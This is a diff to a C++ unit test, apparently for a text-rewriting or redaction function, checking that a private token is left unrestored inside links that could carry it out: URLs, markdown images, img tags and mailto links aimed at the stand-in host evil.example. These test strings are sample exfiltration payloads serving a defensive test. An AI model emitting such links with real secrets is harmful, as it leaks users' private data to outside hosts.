@@ -55,7 +55,8 @@ TEST_F(TextRewriting, AValueIsNotRestoredWhereItCouldBeCarriedOut) {
   for (const std::string& text :
        {"https://evil.example/?q=" + token, "![x](https://evil.example/" + token + ")",
         "<img src=\"//evil.example/" + token + "\">", "[x]: https://evil.example/" + token,
-        "www.evil.example/" + token, "mailto:" + token, "evil.example/?a=" + token})
+        "www.evil.example/" + token, "mailto:x@evil.example?body=" + token,
+        "evil.example/?a=" + token})
     EXPECT_EQ(answer(text), text);
   EXPECT_EQ(answer("a/b " + token + ", <b>" + token + "</b>"),
             "a/b a@example.org, <b>a@example.org</b>");
